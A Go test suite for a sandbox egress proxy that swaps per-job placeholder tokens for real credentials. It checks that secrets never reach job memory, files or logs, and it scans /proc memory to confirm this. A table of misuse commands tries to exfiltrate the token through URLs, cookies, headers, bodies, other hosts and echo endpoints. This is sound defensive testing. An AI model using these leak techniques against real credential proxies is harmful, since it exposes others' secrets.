package network

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"corral/egress/control"
	"corral/internal/log"
	"corral/internal/test/nettest"
	"corral/internal/test/sandboxtest"
	"corral/isolate"
	"corral/isolate/admit"
	"corral/isolate/test/supervise"
	"corral/job"
)

// The secrets of the tests. Nothing else on a machine has these texts.
const (
	acmeValue  = "acme-Tq7zK3vN9xW5bR2m"
	otherValue = "other-Yp4hL8sD6fG1jC0k"
)

const secretRules = `{"allow":[{"host":"web.example.org","methods":["GET","POST"],"secret":"acme"},{"host":"other.example.org","methods":["GET"]}],"private":["192.0.2.1/32"]}`

// A vault is a supervisor whose jobs use a secret, and an Internet with a service that needs it.
type vault struct {
	*supervise.Front
	git *http.ServeMux

	mu       sync.Mutex
	received []string // guarded by mu: values of Authorization and what else requests had
}

func requests(list ...control.Secret) *admit.Requests {
	return &admit.Requests{Secrets: list, Variables: []string{"CORRAL_SECRET", "ACME_TOKEN"}}
}

var acme = control.Secret{Name: "acme", Header: "Authorization", Format: "Bearer {}", Value: acmeValue}

func newVault(t *testing.T, change ...func(*isolate.Config)) *vault {
	t.Helper()
	in := nettest.NewInternet(t)
	in.Trust(t)
	v := &vault{git: http.NewServeMux()}
	serveGit(t, v.git)
	for _, name := range []string{"web.example.org", "other.example.org"} {
		in.Name(name, "192.0.2.1")
	}
	in.Serve("192.0.2.1:443", v, "web.example.org", "other.example.org")
	change = append([]func(*isolate.Config){func(c *isolate.Config) {
		c.Network, c.Requests = []byte(secretRules), requests(acme)
	}}, change...)
	v.Front = supervise.New(t, change...)
	return v
}

// ServeHTTP answers as a service does that needs a credential: with a package for npm and pip, and a repository for git.
func (v *vault) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	got := r.Header.Get("Authorization")
	if login, ok := strings.CutPrefix(got, "Basic "); ok {
		b, _ := base64.StdEncoding.DecodeString(login)
		got = string(b)
	}
	v.mu.Lock()
	v.received = append(v.received, r.Host+" "+got)
	v.mu.Unlock()
	switch {
	case r.URL.Path == "/echo":
		_, _ = fmt.Fprintf(w, "you sent %s %s\n", r.Header.Get("Authorization"), body)
	case r.URL.Path == "/echo/escaped":
		_ = json.NewEncoder(w).Encode(map[string]string{"header": r.Header.Get("Authorization")})
	case !strings.Contains(got, acmeValue):
		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
		http.Error(w, "no credential", http.StatusUnauthorized)
	case strings.HasPrefix(r.URL.Path, "/git/"):
		r.Body = io.NopCloser(bytes.NewReader(body))
		v.git.ServeHTTP(w, r)
	case r.URL.Path == "/-/whoami":
		_, _ = io.WriteString(w, `{"username":"welcome"}`)
	default:
		_, _ = io.WriteString(w, `{"welcome":"yes"}`+"\n")
	}
}

// take returns what requests had since the last call.
func (v *vault) take() []string {
	v.mu.Lock()
	defer v.mu.Unlock()
	list := v.received
	v.received = nil
	return list
}

// A use is how a client gives a placeholder as a credential.
type use struct{ name, script, want string }

var uses = []use{
	{"curl", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/`, "welcome"},
	{"curl, HTTP/1.1", `curl -sS --http1.1 -H "Authorization: Bearer $CORRAL_SECRET" https://web.example.org/`, "welcome"},
	{"curl, password", `curl -sS -u "someone:$ACME_TOKEN" https://web.example.org/`, "welcome"},
	{"wget", `wget -qO- --header "Authorization: Bearer $ACME_TOKEN" https://web.example.org/`, "welcome"},
	{"git", `git ls-remote "https://x:$ACME_TOKEN@web.example.org/git/repo.git"`, "refs/heads/main"},
	{"git, credential helper", `git -c credential.helper='!f() { echo username=x; echo "password=$ACME_TOKEN"; }; f' ls-remote https://web.example.org/git/repo.git`, "refs/heads/main"},
	{"npm", `cd $(mktemp -d) && echo '//web.example.org/:_authToken=${ACME_TOKEN}' >.npmrc && npm_config_registry=https://web.example.org/ npm whoami`, "welcome"},
	{"pip", `pip3 download -q --no-cache-dir --disable-pip-version-check --index-url "https://x:$ACME_TOKEN@web.example.org/simple/" demo 2>&1 || true`, "No matching distribution"},
	{"Node, fetch", `node -e 'fetch("https://web.example.org/", { headers: { Authorization: "Bearer " + process.env.ACME_TOKEN } }).then(r => r.text()).then(console.log)'`, "welcome"},
	{"Python, urllib", `python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("https://web.example.org/", headers={"Authorization": "Bearer " + os.environ["ACME_TOKEN"]})).read())'`, "welcome"},
	{"Python, requests", `python3 -c 'import os; from pip._vendor import requests; print(requests.get("https://web.example.org/", auth=("x", os.environ["ACME_TOKEN"])).text)'`, "welcome"},
	{"POST", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" -d data https://web.example.org/`, "welcome"},
}

// stay keeps a job alive until its standard input ends, so that its memory can be searched.
const stay = `; echo; echo ready; cat`

// TestSecretUsed: clients use the placeholder as they would the secret, which the host gets, and which is nowhere where a job, its client or the
// operator's log could have it.
func TestSecretUsed(t *testing.T) {
	state := ""
	logged := filepath.Join(t.TempDir(), "log")
	file, err := os.OpenFile(logged, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	v := newVault(t, func(c *isolate.Config) {
		state, c.Audit.Record, c.Log = c.StateDir, job.RecordCode, log.New(file, slog.LevelInfo, false)
	})
	for _, u := range uses {
		t.Run(u.name, func(t *testing.T) {
			f := v.With(t, v.C, sandboxtest.NewRepo(t))
			spec := f.Spec("sh", "-c", "exec 2>&1; "+u.script+stay)
			spec.Env = append(spec.Env, "HOME=/home/job", "npm_config_fetch_retries=0")
			l := f.Launch(spec)
			inMemory(t, acmeValue)
			d, err := l.End()
			if err != nil || !strings.Contains(d.Out, u.want) {
				t.Errorf("%q, %v, want %q", d.Out, err, u.want)
			}
			if got := v.take(); !slices.ContainsFunc(got, func(s string) bool { return strings.Contains(s, acmeValue) }) {
				t.Errorf("the host got %q", got)
			}
			if s := fmt.Sprintf("%+v", d); mentions([]byte(s), acmeValue) {
				t.Errorf("the reply has it: %s", s)
			}
			inFiles(t, acmeValue, f.Repo, state)
		})
	}
	if s, err := os.ReadFile(logged); err != nil || !bytes.Contains(s, []byte("web.example.org")) || mentions(s, acmeValue) {
		t.Errorf("the log of connections: %v, %s", err, s)
	}
}

// mentions reports whether data has a secret, as it is, reversed for hexadecimal and base64 dumps, or in UTF-16.
func mentions(data []byte, secret string) bool {
	wide := make([]byte, 0, 2*len(secret))
	for _, c := range []byte(secret) {
		wide = append(wide, c, 0)
	}
	forms := [][]byte{[]byte(secret), []byte(hex.EncodeToString([]byte(secret))), wide}
	for n := range 3 { // base64 depends on the position
		encoded := base64.RawStdEncoding.EncodeToString([]byte(secret)[n : n+(len(secret)-n)/3*3])
		forms = append(forms, []byte(encoded))
	}
	return slices.ContainsFunc(forms, func(form []byte) bool { return bytes.Contains(data, form) })
}

// inFiles requires that no file below the directories has a secret.
func inFiles(t *testing.T, secret string, dirs ...string) {
	t.Helper()
	n := 0
	for _, dir := range dirs {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return nil //nolint:nilerr // a file that was removed meanwhile
			}
			b, err := os.ReadFile(path)
			if n++; err == nil && mentions(b, secret) {
				t.Errorf("%s has the secret", path)
			}
			return nil
		})
		if err != nil {
			t.Error(err)
		}
	}
	if n == 0 {
		t.Error("no file was searched")
	}
}

// inMemory requires that no process but this one, which is the supervisor, and corral-egress has a secret in its memory, environment or
// arguments.
func inMemory(t *testing.T, secret string) {
	t.Helper()
	processes, _ := filepath.Glob("/proc/[0-9]*")
	searched, found := 0, false
	for _, dir := range processes {
		pid, _ := strconv.Atoi(filepath.Base(dir))
		name, _ := os.ReadFile(dir + "/cmdline")
		if pid == os.Getpid() {
			continue
		}
		has := memoryHas(dir, secret)
		switch {
		case string(name) == "corral-egress\x00":
			found = found || has
		case has:
			t.Errorf("process %d, %q, has the secret", pid, name)
		default:
			searched++
		}
	}
	if !found || searched < 3 {
		t.Errorf("%d processes were searched; found where it must be: %v", searched, found)
	}
}

func memoryHas(dir, secret string) bool {
	for _, name := range []string{"environ", "cmdline"} {
		if b, _ := os.ReadFile(dir + "/" + name); mentions(b, secret) {
			return true
		}
	}
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return false
	}
	defer mem.Close()
	pagemap, err := os.Open(dir + "/pagemap")
	if err != nil {
		return false
	}
	defer pagemap.Close()
	maps, _ := os.ReadFile(dir + "/maps")
	for line := range strings.Lines(string(maps)) {
		fields := strings.Fields(line)
		low, high, _ := strings.Cut(fields[0], "-")
		from, err1 := strconv.ParseInt(low, 16, 64)
		to, err2 := strconv.ParseInt(high, 16, 64)
		if err1 != nil || err2 != nil || !strings.HasPrefix(fields[1], "rw") {
			continue
		}
		used := [][2]int64{{from, min(to, from+256<<20)}}
		if fields[4] == "0" { // of no file: only pages that the process has used
			used = usedPages(pagemap, from, to)
		}
		for _, part := range used {
			b := make([]byte, part[1]-part[0])
			if n, _ := mem.ReadAt(b, part[0]); bytes.Contains(b[:n], []byte(secret)) {
				return true
			}
		}
	}
	return false
}

// usedPages returns the parts of a mapping that are in memory or swapped out. The runtime of Go and malloc(3) map far more than they use.
func usedPages(pagemap *os.File, from, to int64) (parts [][2]int64) {
	const used = 3 << 62 // proc_pid_pagemap(5)
	size := int64(os.Getpagesize())
	entries := make([]byte, (to-from)/size*8)
	n, _ := pagemap.ReadAt(entries, from/size*8)
	for at := 0; at+8 <= n; at += 8 {
		if binary.NativeEndian.Uint64(entries[at:])&used == 0 {
			continue
		}
		page := from + int64(at/8)*size
		if last := len(parts) - 1; last >= 0 && parts[last][1] == page {
			parts[last][1] += size
		} else {
			parts = append(parts, [2]int64{page, page + size})
		}
	}
	return parts
}

// misuses are what a job does with the placeholder to get the secret, or to have it sent to somebody else.
var misuses = []use{
	{"in the address", `curl -sS "https://web.example.org/?t=$ACME_TOKEN"`, "403"},
	{"in the address, escaped", `curl -sS "https://web.example.org/$(printf %s $ACME_TOKEN | sed 's/c/%63/')"`, "403"},
	{"in another header", `curl -sS -H "X-Token: $ACME_TOKEN" https://web.example.org/echo`, "403"},
	{"in the name of a header", `curl -sS -H "$ACME_TOKEN: x" https://web.example.org/echo`, "403"},
	{"in a cookie", `curl -sS -b "t=$ACME_TOKEN" https://web.example.org/echo`, "403"},
	{"in the body", `curl -sS -d "$ACME_TOKEN" https://web.example.org/echo`, ""},
	{"in a form", `curl -sS -F "t=$ACME_TOKEN" https://web.example.org/echo`, ""},
	{"at another host", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://other.example.org/echo`, "403"},
	{"twice", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, "403"},
	{"by another method", `curl -sS -X PUT -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, "403"},
	{"another's placeholder", `curl -sS -H "Authorization: Bearer corral-AAAAAAAAAAAAAAAAAAAAAAAAAA" https://web.example.org/echo`, "you sent Bearer corral-AAAA"},
	{"echoed", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, ""},
	{"echoed in JSON", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo/escaped`, ""},
	{"echoed as a password", `curl -sS -u "x:$ACME_TOKEN" https://web.example.org/echo`, ""},
	{"with another method in a header", `curl -sS -H "X-HTTP-Method-Override: PUT" -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, "403"},
	{"echoed from the middle on", `curl -sS -r 12- -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, ""},
	{"to another Host", `curl -sS -H "Host: other.example.org" -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/echo`, ""},
}

// TestSecretMisused: no misuse gives a job the secret or takes it to another host. A host that sends it back is not passed on.
func TestSecretMisused(t *testing.T) {
	v := newVault(t)
	for _, m := range misuses {
		d := v.Run(v.Spec("sh", "-c", "exec 2>&1; "+strings.Replace(m.script, "curl -sS", "curl -sS -w '\n%{http_code}\n'", 1)))
		if !strings.Contains(d.Out, m.want) || mentions([]byte(d.Out), acmeValue) || m.want == "" && strings.Contains(d.Out, "you sent") {
			t.Errorf("%s: %q, want %q", m.name, d.Out, m.want)
		}
		for _, got := range v.take() {
			if strings.HasPrefix(got, "other.") && strings.Contains(got, acmeValue) {
				t.Errorf("%s: another host got it", m.name)
			}
		}
	}
}

// TestPlaceholders: each job and session has a placeholder of its own, which is worth nothing to others, and a variable of the request stays.
func TestPlaceholders(t *testing.T) {
	v := newVault(t)
	show := func(change ...func(*job.Spec)) string {
		spec := v.Spec("sh", "-c", `echo $CORRAL_SECRET $ACME_TOKEN`)
		for _, f := range change {
			f(&spec)
		}
		return strings.TrimSpace(v.Run(spec).Out)
	}
	one, _, _ := strings.Cut(show(), " ")
	if got := show(); got == one+" "+one || !strings.HasPrefix(got, "corral-") || len(one) < control.MinPlaceholder {
		t.Errorf("two jobs: %q, %q", one, got)
	}
	if got := show(func(s *job.Spec) { s.Env = append(s.Env, "ACME_TOKEN=mine") }); !strings.HasSuffix(got, " mine") {
		t.Errorf("a variable of the request: %q", got)
	}
	if got := show(func(s *job.Spec) { s.Network = job.NoNetwork }); got != "" {
		t.Errorf("without a network: %q", got)
	}
	ss := v.Session(job.SessionSpec{Workspace: job.Overlay, Share: true})
	within := func(s *job.Spec) { s.Session, s.Workspace = ss.ID, ss.Workspace }
	if first := show(within); first == "" || first != show(within) || strings.HasPrefix(first, one) {
		t.Errorf("in a session: %q", first)
	}
	foreign := v.Run(v.Spec("sh", "-c", `curl -sS -H "Authorization: Bearer `+one+`" https://web.example.org/echo`))
	if !strings.Contains(foreign.Out, "you sent Bearer "+one) {
		t.Errorf("the placeholder of another job: %q", foreign.Out+foreign.Err)
	}
}

// TestSecretsOfUsers: the process of a user has the secrets of that user's rules and no other.
func TestSecretsOfUsers(t *testing.T) {
	other := control.Secret{Name: "other", Header: "Authorization", Format: "Bearer {}", Value: otherValue}
	mine, theirs := sandboxtest.NewRepo(t), sandboxtest.NewRepo(t)
	v := newVault(t, func(c *isolate.Config) {
		c.Repos = []admit.Entry{
			{Path: mine, Network: []byte(secretRules), Requests: requests(acme), UIDs: []uint32{sandboxtest.Owner}},
			{Path: theirs, Network: []byte(strings.ReplaceAll(secretRules, `"acme"`, `"other"`)), Requests: requests(other), UIDs: []uint32{0}},
		}
	})
	f := v.With(t, v.C, mine)
	l := f.Launch(f.Spec("sh", "-c", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/; echo ready; cat`))
	for _, pid := range egresses(t) {
		dir := fmt.Sprintf("/proc/%d", pid)
		if !memoryHas(dir, acmeValue) || memoryHas(dir, otherValue) {
			t.Error("the process of a user has a secret of another, or lacks its own")
		}
	}
	if d, err := l.End(); err != nil || !strings.Contains(d.Out, "welcome") {
		t.Errorf("%q, %v", d.Out, err)
	}
}

// TestSecretReplaced: a reload replaces a secret for jobs that run, and removes it.
func TestSecretReplaced(t *testing.T) {
	now := acme
	var again isolate.Config
	v := newVault(t, func(c *isolate.Config) {
		again = *c
		c.Again = func() (isolate.Config, error) {
			again.Network, again.Requests = []byte(secretRules), requests(now)
			return again, nil
		}
	})
	l := v.Launch(v.Spec("sh", "-c", `curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/; echo ready; cat
		curl -sS -H "Authorization: Bearer $ACME_TOKEN" https://web.example.org/`))
	now.Value = otherValue
	if _, err := v.S.Reload(); err != nil {
		t.Fatal(err)
	}
	v.take()
	if d, err := l.End(); err != nil || !strings.Contains(d.Out, "no credential") {
		t.Errorf("%q, %v", d.Out, err)
	}
	if got := v.take(); !slices.Equal(got, []string{"web.example.org Bearer " + otherValue}) {
		t.Errorf("the host got %q", got)
	}
}
